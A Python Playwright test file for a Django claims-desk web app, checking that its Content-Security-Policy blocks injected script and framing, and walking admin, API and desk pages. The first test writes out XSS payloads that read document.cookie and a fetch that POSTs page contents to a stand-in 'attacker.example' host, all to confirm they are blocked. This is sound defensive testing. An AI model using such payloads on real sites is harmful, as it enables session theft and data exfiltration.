"""The Content-Security-Policy in Chromium: injected code does not run, and our own pages need none.

The other browser tests fail on any refusal while an agent triages, a buyer returns on a
phone and an owner changes the matrix; these walk the rest: the desk's menus and questions,
the admin's pages, the API docs, DRF's browsable API and the development mailbox.
"""

import pytest
from django.contrib.auth.models import User

from cases.models import CaseStatus
from messaging.models import BuyerEvent, EmailTemplateOverride
from messaging.services.sending import outbox_send
from orders.models import Role
from orders.services import membership_grant
from tests.factories import log_in_in_browser, make_claim, make_order

from .conftest import DESKTOP, watch_csp

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]
PlaywrightError = pytest.importorskip("playwright.sync_api", reason="playwright is not installed").Error


@pytest.fixture
def root(db):
    return User.objects.create_superuser("root", "root@leinen.example", "root-pw")


def log_in(page, live_server, name, *, next_="/desk/"):
    url = f"{live_server.url}/accounts/login/?next={next_}"
    log_in_in_browser(page, url, User.objects.get(username=name), f"{name}-pw")
    page.wait_for_url(f"**{next_}")


def test_a_script_an_attacker_slipped_into_a_page_does_not_run(browser, live_server, shop):
    # As if a buyer's text had got into the portal unescaped: an inline script, an event
    # handler, and a request that would carry the page's contents to the attacker's server.
    context = browser.new_context(viewport=DESKTOP)
    refused = watch_csp(context)
    page = context.new_page()
    page.goto(f"{live_server.url}/portal/{shop.slug}/")

    with pytest.raises(PlaywrightError, match="Content Security Policy"):
        page.add_script_tag(content="window.stolen = document.cookie")
    page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', "
        '\'<img src="/static/none.png" onerror="window.stolen = document.cookie">\')'
    )
    page.wait_for_timeout(300)  # the image fails to load, and its handler would run
    sent = page.evaluate(
        "fetch('https://attacker.example/collect', {method: 'POST', body: document.body.innerHTML})"
        ".then(() => 'sent', () => 'blocked')"
    )

    assert page.evaluate("window.stolen") is None
    assert sent == "blocked"
    assert any("inline event handler" in line and "script-src" in line for line in refused)
    assert any("attacker.example" in line and "connect-src" in line for line in refused)
    context.close()


def test_the_site_cannot_be_framed_by_another_page(browser, live_server, shop):
    # Clickjacking: an attacker's page loads the desk's login in an invisible frame.
    context = browser.new_context(viewport=DESKTOP)
    refused = watch_csp(context)
    page = context.new_page()
    page.set_content(f'<iframe src="{live_server.url}/accounts/login/"></iframe>')
    for _ in range(50):  # the refusal comes when the frame's answer arrives
        if refused:
            break
        page.wait_for_timeout(100)

    assert page.frames[1].url in ("", "about:blank", "chrome-error://chromewebdata/")
    assert any("frame-ancestors" in line for line in refused)
    context.close()


def test_an_admin_walks_the_admin_the_api_docs_and_the_browsable_api(desktop, live_server, root, shop):
    order = make_order(shop)
    make_claim(order, opened_via="portal")
    override = EmailTemplateOverride.objects.create(
        shop=shop, event=BuyerEvent.CLAIM_RECEIVED, language="de", subject="Wir kümmern uns", body="Hallo!"
    )
    page = desktop()
    log_in(page, live_server, "root")

    for path in (
        "/admin/",
        "/admin/orders/order/",
        f"/admin/orders/order/{order.pk}/change/",
        "/admin/orders/order/import/",
        "/admin/auth/user/add/",
        f"/admin/messaging/emailtemplateoverride/{override.pk}/change/",
    ):
        page.goto(live_server.url + path)
        page.wait_for_load_state("load")
        assert page.locator("#content").count() == 1, path
    # The e-mail preview frame shows the e-mail with its own styles.
    assert page.frame_locator("iframe").locator("body").inner_text()

    page.goto(f"{live_server.url}/api/docs/")
    page.wait_for_selector(".opblock-tag", timeout=20_000)  # Swagger UI read the schema and drew it

    page.goto(f"{live_server.url}/api/v1/orders/{order.pk}/")  # DRF's browsable API, as a session user
    page.wait_for_selector(".response-info")
    assert order.number in page.inner_text(".response-info")


def test_the_development_mailbox_shows_an_email_with_its_styles(
    desktop, live_server, settings, tmp_path, shop, carrier
):
    settings.DEBUG = True
    settings.EMAIL_BACKEND = "django.core.mail.backends.filebased.EmailBackend"
    settings.EMAIL_FILE_PATH = str(tmp_path)
    claim = make_claim(make_order(shop), opened_via="portal")
    outbox_send(message_id=claim.case.outbound_messages.get().pk)
    page = desktop()

    page.goto(f"{live_server.url}/dev/mailbox/")
    page.click("table a")  # the e-mail's subject
    page.wait_for_selector("iframe.mail-preview")

    assert claim.case.reference in page.frame_locator("iframe.mail-preview").locator("body").inner_text()


def test_the_desks_menus_and_questions_work_without_inline_handlers(desktop, live_server, shop, swedish_shop):
    # Once onchange= and onclick=, now desk.js: the dashboard's shop menu applies itself, and
    # "Close selected" asks first; a "no" closes nothing.
    agent = User.objects.create_user("anna", password="anna-pw")
    for each in (shop, swedish_shop):
        membership_grant(user=agent, shop=each, role=Role.AGENT)
    case = make_claim(make_order(shop), opened_via="portal").case
    page = desktop()
    log_in(page, live_server, "anna")

    page.goto(f"{live_server.url}/desk/dashboard/")
    page.select_option("select[name=shop]", swedish_shop.slug)
    page.wait_for_url(f"**/desk/dashboard/?shop={swedish_shop.slug}&**")

    page.goto(f"{live_server.url}/desk/")
    page.check(f"input[name=case][value='{case.reference}']")
    page.once("dialog", lambda dialog: dialog.dismiss())
    page.click("button[value=close]")
    page.wait_for_timeout(300)
    case.refresh_from_db()
    assert case.status != CaseStatus.CLOSED

    page.once("dialog", lambda dialog: dialog.accept())
    page.click("button[value=close]")
    page.wait_for_selector(".flash")
    case.refresh_from_db()
    assert case.status == CaseStatus.CLOSED
